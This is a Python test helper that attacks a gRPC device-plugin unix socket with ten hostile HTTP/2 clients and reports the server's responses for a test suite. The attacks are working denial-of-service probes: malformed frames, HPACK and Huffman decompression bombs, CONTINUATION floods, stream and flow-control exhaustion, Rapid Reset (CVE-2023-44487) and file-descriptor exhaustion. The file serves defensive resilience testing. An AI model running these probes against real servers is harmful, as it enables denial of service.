"""Hostile local clients of a gRPC unix socket, one kind per run.

    python tests/plugin/hostile.py PROBE SOCKET SECONDS

Runs PROBE against the socket for about SECONDS (over and over on fresh connections
where one attempt is short), in a process of its own as an attacker on the node
would be, and prints one JSON object: how many connections it made and how each
ended (``GOAWAY <code>`` when the server said why, ``eof`` when it closed without
a word, ``open`` when it never closed), the gRPC statuses its calls got and the
stream resets it saw. tests/plugin/test_hostile_clients.py reads it.

The frames are built with hyperframe and the header blocks with hpack (or by hand
where they must be wrong), so what goes out is exactly the attack.
"""

from __future__ import annotations

import json
import os
import random
import socket
import struct
import sys
import time
from collections import Counter

import h2.config
import h2.connection
import h2.events
import h2.exceptions
from h2.errors import ErrorCodes
from hpack import Decoder, Encoder
from hpack.hpack import encode_integer
from hpack.huffman import HuffmanEncoder
from hpack.huffman_constants import REQUEST_CODES, REQUEST_CODES_LENGTH
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ALLOCATE = "/v1beta1.DevicePlugin/Allocate"
# AllocateRequest{container_requests: [{devices_ids: ["0000:13:00.0"]}]}
ALLOCATE_REQUEST = b"\n\x0e\n\x0c0000:13:00.0"
REQUEST_HEADERS = [(":method", "POST"), (":scheme", "http"), (":path", ALLOCATE),
                   (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers")]


def message(payload: bytes) -> bytes:
    return struct.pack(">BI", 0, len(payload)) + payload


def raw_frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">HBBBI", len(payload) >> 8, len(payload) & 0xFF, kind, flags, stream) + payload


def headers(stream: int, block: bytes, *, end_stream: bool = False, end_headers: bool = True) -> bytes:
    frame = HeadersFrame(stream, block)
    frame.flags = {f for f, on in (("END_STREAM", end_stream), ("END_HEADERS", end_headers)) if on}
    return frame.serialize()


def data(stream: int, payload: bytes, *, end_stream: bool = False) -> bytes:
    return DataFrame(stream, payload, flags={"END_STREAM"} if end_stream else set()).serialize()


class Connection:
    """One raw HTTP/2 connection: what it sends is ours to choose; what it gets is recorded."""

    def __init__(self, path: str, settings: dict[int, int] | None = None) -> None:
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.settimeout(10)
        self.sock.connect(path)
        self.encoder = Encoder()
        self.decoder = Decoder()
        self.buf = bytearray()
        self.goaway: str | None = None
        self.eof = False
        self.statuses: Counter[str] = Counter()
        self.resets: Counter[str] = Counter()
        self.settings_seen = 0
        self.send(PREFACE + SettingsFrame(0, settings or {}).serialize())

    def handshake(self, timeout: float = 10.0) -> None:
        """Read until the server's two SETTINGS frames (h2's defaults, then its limits) came
        and are acknowledged: from then on its limits apply to this connection."""
        deadline = time.monotonic() + timeout
        while self.settings_seen < 2 and time.monotonic() < deadline and not self.eof:
            self.read(0.05)

    def send(self, payload: bytes) -> bool:
        """False once the server has closed (or reset) the connection."""
        try:
            self.sock.sendall(payload)
            return True
        except OSError:
            return False

    def request_block(self, extra: list[tuple[str, str]] = ()) -> bytes:
        return self.encoder.encode(REQUEST_HEADERS + list(extra))

    def read(self, timeout: float) -> bool:
        """Read what comes within ``timeout`` s, acking SETTINGS; True once the server closed."""
        deadline = time.monotonic() + timeout
        while not self.eof:
            left = deadline - time.monotonic()
            if left <= 0:
                return False
            self.sock.settimeout(left)
            try:
                chunk = self.sock.recv(262144)
            except TimeoutError:
                return False
            except OSError:
                chunk = b""
            if not chunk:
                self.eof = True
                break
            self.buf += chunk
            self._frames()
        return True

    def _frames(self) -> None:
        while len(self.buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                return
            frame.parse_body(memoryview(self.buf[9:9 + length]))
            del self.buf[:9 + length]
            if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                self.settings_seen += 1
                self.send(SettingsFrame(0, flags={"ACK"}).serialize())
            elif isinstance(frame, GoAwayFrame) and self.goaway is None:
                self.goaway = _code(frame.error_code)
            elif isinstance(frame, RstStreamFrame):
                self.resets[_code(frame.error_code)] += 1
            elif isinstance(frame, HeadersFrame):
                try:
                    fields = dict(self.decoder.decode(frame.data))
                except Exception:  # noqa: BLE001 (a block we cannot follow: count it unread)
                    fields = {}
                if "grpc-status" in fields:
                    self.statuses[fields["grpc-status"]] += 1

    def outcome(self, timeout: float) -> str:
        """How the connection ended, once it has (or ``open`` after ``timeout`` s)."""
        closed = self.read(timeout)
        self.sock.close()
        if self.goaway is not None:
            return f"GOAWAY {self.goaway}"
        return "eof" if closed else "open"


def _integer(value: int, prefix: int, flags: int = 0) -> bytes:
    """An HPACK integer (RFC 7541 5.1) with ``flags`` in its first byte's high bits."""
    encoded = encode_integer(value, prefix)
    encoded[0] |= flags
    return bytes(encoded)


def _code(value: int) -> str:
    try:
        return ErrorCodes(value).name
    except ValueError:
        return str(value)


class Tally:
    def __init__(self) -> None:
        self.connections = 0
        self.outcomes: Counter[str] = Counter()
        self.statuses: Counter[str] = Counter()
        self.resets: Counter[str] = Counter()

    def add(self, connection: Connection, timeout: float = 10.0) -> None:
        self.connections += 1
        self.outcomes[connection.outcome(timeout)] += 1
        self.statuses.update(connection.statuses)
        self.resets.update(connection.resets)

    def report(self) -> dict:
        return {"connections": self.connections, "outcomes": dict(self.outcomes),
                "statuses": dict(self.statuses), "resets": dict(self.resets)}


# -- the probes ---------------------------------------------------------------------------


def malformed(path: str, seconds: float, tally: Tally) -> None:
    """Frames HTTP/2 forbids, a different one on each connection."""
    kinds = [
        raw_frame(0x4, 0, 0, b"\x00\x01\x00"),  # SETTINGS of 3 bytes: FRAME_SIZE_ERROR
        raw_frame(0x0, 0, 0, b"data on stream 0"),  # PROTOCOL_ERROR
        raw_frame(0x8, 0, 0, b"\x00\x00\x00\x00"),  # WINDOW_UPDATE of 0: PROTOCOL_ERROR
        raw_frame(0x6, 0, 1, b"\x00" * 8),  # PING on a stream: PROTOCOL_ERROR
        raw_frame(0x1, 0x4, 2, b"\x82"),  # HEADERS on an even stream: PROTOCOL_ERROR
        raw_frame(0x9, 0x4, 1, b"\x82"),  # CONTINUATION without HEADERS: PROTOCOL_ERROR
        raw_frame(0x1, 0x4, 1, b"\xff\xff\xff\xff\xff"),  # an HPACK index past the table
        os.urandom(4096),  # noise after the preface
    ]
    end = time.monotonic() + seconds
    n = 0
    while time.monotonic() < end:
        connection = Connection(path)
        connection.send(kinds[n % len(kinds)])
        n += 1
        tally.add(connection)


def huffman_bomb(path: str, seconds: float, tally: Tally) -> None:
    """One header whose Huffman-coded value runs over a megabyte of CONTINUATION frames
    (5 bits a character: 1.6 million characters to decode)."""
    chunk = HuffmanEncoder(REQUEST_CODES, REQUEST_CODES_LENGTH).encode(b"a" * 8) * 3276  # 16380 bytes
    length = _integer(64 * len(chunk), 7, 0x80)  # the H bit: Huffman-coded
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        connection = Connection(path)
        block = connection.request_block() + b"\x00\x01x" + bytes(length)  # literal, new name "x"
        connection.send(headers(1, block, end_headers=False))
        for _ in range(64):
            if not connection.send(ContinuationFrame(1, chunk).serialize()):
                break
        tally.add(connection)


def hpack_table_bomb(path: str, seconds: float, tally: Tally) -> None:
    """A 4000-byte entry put in the dynamic table, then referred to 16,000 times in one
    block (64 MB of headers from 16 kB); and a table size update past the advertised 4096."""
    end = time.monotonic() + seconds
    n = 0
    while time.monotonic() < end:
        connection = Connection(path)
        if n % 2 == 0:
            entry = b"\x40\x01x" + _integer(4000, 7) + b"y" * 4000  # literal with indexing
            block = connection.request_block() + entry + b"\xbe" * 12000  # index 62, over and over
        else:
            block = _integer(2**32, 5, 0x20) + connection.request_block()  # table size update
        connection.send(headers(1, block, end_stream=True))
        n += 1
        tally.add(connection)


def continuation_flood(path: str, seconds: float, tally: Tally) -> None:
    """A header block that never ends: empty CONTINUATION frames, or 16 kB ones."""
    end = time.monotonic() + seconds
    n = 0
    while time.monotonic() < end:
        connection = Connection(path)
        connection.send(headers(1, connection.request_block(), end_headers=False))
        payload = b"" if n % 2 == 0 else b"z" * 16000
        for _ in range(100_000):
            if not connection.send(ContinuationFrame(1, payload).serialize()):
                break
            if time.monotonic() > end + 5:
                break
        n += 1
        tally.add(connection)


def idle_streams(path: str, seconds: float, tally: Tally) -> None:
    """Connections each opening as many calls as the server allows, sending half a request
    on each and then nothing; the last one opens one stream more than allowed."""
    connections = []
    body = message(ALLOCATE_REQUEST)
    for _ in range(100):
        connection = Connection(path)
        connection.handshake()  # the server's stream limit applies
        for stream in range(1, 65, 2):  # 32 streams
            connection.send(headers(stream, connection.request_block()) + data(stream, body[:7]))
        connections.append(connection)
    connections[-1].send(headers(65, connections[-1].request_block()))  # the 33rd
    time.sleep(seconds)
    for connection in connections:
        tally.add(connection, timeout=3.0)


class H2Client:
    """A client on h2 (the library), for attacks that must keep to the protocol: sending
    within the windows the server advertises."""

    def __init__(self, path: str) -> None:
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.connect(path)
        self.conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.conn.initiate_connection()
        self.conn.update_settings({0x4: 2**31 - 1})
        self.goaway: str | None = None
        self.eof = False
        self.statuses: Counter[str] = Counter()
        self.resets: Counter[str] = Counter()
        self.ended: set[int] = set()
        self.flush()
        self.pump(0.5)  # the server's SETTINGS and its connection window

    def flush(self) -> None:
        data = self.conn.data_to_send()
        if data:
            self.sock.sendall(data)

    def pump(self, timeout: float) -> None:
        """Read and act on what comes within ``timeout`` s."""
        self.sock.settimeout(timeout)
        try:
            chunk = self.sock.recv(262144)
        except (TimeoutError, BlockingIOError):
            return
        except OSError:
            chunk = b""
        if not chunk:
            self.eof = True
            return
        for event in self.conn.receive_data(chunk):
            if isinstance(event, h2.events.ResponseReceived | h2.events.TrailersReceived):
                fields = dict(event.headers)
                if b"grpc-status" in fields:
                    self.statuses[fields[b"grpc-status"].decode()] += 1
            elif isinstance(event, h2.events.StreamReset):
                self.resets[_code(event.error_code)] += 1
                self.ended.add(event.stream_id)
            elif isinstance(event, h2.events.StreamEnded):
                self.ended.add(event.stream_id)
            elif isinstance(event, h2.events.ConnectionTerminated):
                self.goaway = _code(event.error_code)
            elif isinstance(event, h2.events.DataReceived):
                self.conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
        self.flush()

    def send_body(self, stream: int, body: bytes, deadline: float, *, end_stream: bool) -> None:
        """Send ``body`` on ``stream`` as the server's windows allow (until it ends the call)."""
        view = memoryview(body)
        while view and stream not in self.ended and not self.eof and time.monotonic() < deadline:
            try:
                size = min(len(view), self.conn.local_flow_control_window(stream),
                           self.conn.max_outbound_frame_size)
            except h2.exceptions.StreamClosedError:
                return
            if size > 0:
                self.conn.send_data(stream, bytes(view[:size]))
                view = view[size:]
                self.flush()
            else:
                self.pump(0.2)
        if end_stream and not view and stream not in self.ended:
            self.conn.end_stream(stream)
            self.flush()

    def add_to(self, tally: Tally, timeout: float) -> None:
        deadline = time.monotonic() + timeout
        while not self.eof and time.monotonic() < deadline:
            self.pump(max(0.01, deadline - time.monotonic()))
        self.sock.close()
        tally.connections += 1
        tally.outcomes[f"GOAWAY {self.goaway}" if self.goaway else ("eof" if self.eof else "open")] += 1
        tally.statuses.update(self.statuses)
        tally.resets.update(self.resets)


def large_bodies(path: str, seconds: float, tally: Tally) -> None:
    """Requests just under the 4 MiB message limit, within the windows the server advertises,
    three at once on each of 8 connections and none ever finished; and one just over it."""
    body = message(os.urandom(4 * 1024 * 1024 - 64))
    end = time.monotonic() + seconds
    clients = []
    for _ in range(8):
        client = H2Client(path)
        for stream in (1, 3, 5):
            client.conn.send_headers(stream, REQUEST_HEADERS)
            client.send_body(stream, body, end, end_stream=False)
        clients.append(client)
    big = H2Client(path)
    big.conn.send_headers(1, REQUEST_HEADERS)
    big.send_body(1, message(os.urandom(4 * 1024 * 1024 + 64)), end, end_stream=True)
    clients.append(big)
    for client in clients:
        client.add_to(tally, timeout=max(0.5, end - time.monotonic()) + 3.0)


def zero_window(path: str, seconds: float, tally: Tally) -> None:
    """A client that lets no answer through: SETTINGS_INITIAL_WINDOW_SIZE 0, calls, and no
    WINDOW_UPDATE ever."""
    connections = []
    for _ in range(20):
        connection = Connection(path, {0x4: 0})
        for stream in range(1, 65, 2):
            connection.send(headers(stream, connection.request_block())
                            + data(stream, message(ALLOCATE_REQUEST), end_stream=True))
        connections.append(connection)
    time.sleep(seconds)
    for connection in connections:
        tally.add(connection)


def never_reading(path: str, seconds: float, tally: Tally) -> None:
    """Calls on and on, never reading an answer (the socket's buffers fill): 16 at a time,
    each batch once the server has likely answered the last. Never reading, it cannot know
    how many of its streams are still open: once the server lags, it opens more than
    allowed, which is a protocol error."""
    connection = Connection(path)
    block = connection.request_block()
    body = message(ALLOCATE_REQUEST)
    end = time.monotonic() + seconds
    stream = 1
    connection.sock.settimeout(0.5)
    while time.monotonic() < end:
        burst = b"".join(headers(s, block) + data(s, body, end_stream=True)
                         for s in range(stream, stream + 32, 2))
        try:
            connection.sock.sendall(burst)
        except TimeoutError:
            continue  # the server stopped reading us: its own buffers are full
        except OSError:
            break
        stream += 32
        time.sleep(0.05)
    tally.add(connection)


def rst_flood(path: str, seconds: float, tally: Tally) -> None:
    """Rapid reset (CVE-2023-44487): a call opened and cancelled, thousands of times a
    second; and PING and SETTINGS floods."""
    end = time.monotonic() + seconds
    n = 0
    while time.monotonic() < end:
        connection = Connection(path)
        kind = n % 3
        stream = 1
        while time.monotonic() < end:
            if kind == 0:
                batch = b"".join(headers(s, connection.request_block())
                                 + RstStreamFrame(s, error_code=ErrorCodes.CANCEL).serialize()
                                 for s in range(stream, stream + 200, 2))
                stream += 200
            elif kind == 1:
                batch = PingFrame(0, opaque_data=os.urandom(8)).serialize() * 100
            else:
                batch = SettingsFrame(0, {0x4: random.randrange(65535, 1 << 20)}).serialize() * 100
            if not connection.send(batch):
                break
        n += 1
        tally.add(connection)


def fd_exhaustion(path: str, seconds: float, tally: Tally) -> None:
    """More connections than the server has file descriptors, all held open."""
    connections = []
    end = time.monotonic() + seconds
    while time.monotonic() < end and len(connections) < 400:
        try:
            connections.append(Connection(path))
        except OSError:
            time.sleep(0.01)
    time.sleep(max(0.0, end - time.monotonic()))
    for connection in connections:
        tally.add(connection, timeout=0.05)


PROBES = {f.__name__: f for f in (malformed, huffman_bomb, hpack_table_bomb, continuation_flood,
                                  idle_streams, large_bodies, zero_window, never_reading,
                                  rst_flood, fd_exhaustion)}


def main() -> None:
    probe, path, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    tally = Tally()
    PROBES[probe](path, seconds, tally)
    print(json.dumps(tally.report()))


if __name__ == "__main__":
    main()
